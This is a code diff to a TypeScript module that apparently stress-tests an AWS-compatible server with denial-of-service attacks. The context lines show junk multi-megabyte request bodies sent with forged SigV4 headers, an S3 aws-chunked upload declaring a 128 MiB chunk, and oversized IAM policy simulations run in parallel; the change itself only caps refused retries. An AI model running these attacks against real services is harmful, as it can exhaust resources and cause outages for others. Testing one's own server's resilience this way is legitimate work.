@@ -33,6 +33,8 @@ export interface AttackOutput {
 }
 
 const MiB = 1024 * 1024;
+/** Once the server refuses an attack at once, its loops would spin: each attack stops after this many tries. */
+const MAX_REFUSED_TRIES = 500;
 const JUNK = Buffer.alloc(MiB, 'x');
 
 class Tally {
@@ -107,7 +109,7 @@ async function bigBodies(input: AttackInput, tally: Tally): Promise<void> {
       `authorization: AWS4-HMAC-SHA256 Credential=${input.keys.accessKeyId}/${date.slice(0, 8)}/us-east-1/sts/aws4_request, SignedHeaders=host;x-amz-date, Signature=${'0'.repeat(64)}\r\n` +
       `content-length: ${size}\r\n\r\n`,
   ].map((h) => Buffer.from(h, 'latin1'));
-  await lanes(4, input.deadline, tally, (i) => streamJunk(url, heads[i % 2]!, size, Buffer.alloc(0), input.deadline, tally));
+  await lanes(4, input.deadline, tally, (i) => streamJunk(url, heads[i % 2]!, size, Buffer.alloc(0), input.deadline, tally), MAX_REFUSED_TRIES);
 }
 
 /** 2. S3 PutObject signed as the attacker, aws-chunked, whose one chunk declares 128 MiB (its chunk signature is junk too). */
@@ -127,7 +129,7 @@ async function hugeChunk(input: AttackInput, tally: Tally): Promise<void> {
     let head = `PUT /${input.bucket}/huge-chunk-${i} HTTP/1.1\r\n`;
     for (const [k, v] of Object.entries(headers)) head += `${k}: ${v}\r\n`;
     return streamJunk(url, Buffer.from(`${head}\r\n${chunkHead}`, 'latin1'), size, tail, input.deadline, tally);
-  });
+  }, MAX_REFUSED_TRIES);
 }
 
 /** A policy of as many statements as fit IAM's 131,072-character policy document, each with wildcards and a condition. */
@@ -159,7 +161,7 @@ async function simulatePolicy(input: AttackInput, tally: Tally): Promise<void> {
     await lanes(4, input.deadline, tally, async () => {
       const out = await iam.send(new SimulateCustomPolicyCommand({ PolicyInputList: [policy], ActionNames, ResourceArns, MaxItems: 1000 }));
       return `answered (${out.EvaluationResults?.length ?? 0} results${out.IsTruncated ? ', truncated' : ''})`;
-    });
+    }, MAX_REFUSED_TRIES);
   } finally {
     clearTimeout(stop);
     iam.destroy();
